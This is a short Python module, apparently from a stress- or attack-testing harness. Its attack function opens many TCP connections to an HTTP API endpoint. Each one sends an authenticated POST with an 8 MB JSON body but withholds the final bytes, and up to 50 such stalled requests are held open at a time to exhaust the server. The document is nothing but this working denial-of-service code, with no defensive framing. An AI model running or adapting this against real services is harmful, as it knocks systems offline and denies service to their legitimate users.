"""Sends nearly all of many large bodies and keeps the last byte, with a valid access token."""

import socket

TOKENS = True
SECONDS = 10
WORKERS = 2
OPEN_MAX = 50
BODY = b'{"values":["' + b"a" * (8 << 20)
LENGTH = len(BODY) - 1_000


def attack(target):
    head = (
        f"POST /v1/pools/default/keys HTTP/1.1\r\nHost: localhost\r\n"
        f"Authorization: Bearer {target.token}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {LENGTH}\r\n\r\n"
    ).encode()
    sent = 0
    open_now = []
    while not target.has_ended():
        try:
            connection = socket.create_connection((target.address, target.port), timeout=5)
            connection.settimeout(2)
            open_now.append(connection)
            connection.sendall(head + BODY[: LENGTH - 1])
            sent += 1
        except OSError:
            pass
        if len(open_now) > OPEN_MAX:
            open_now.pop(0).close()
    return f"{sent} bodies without their last byte"
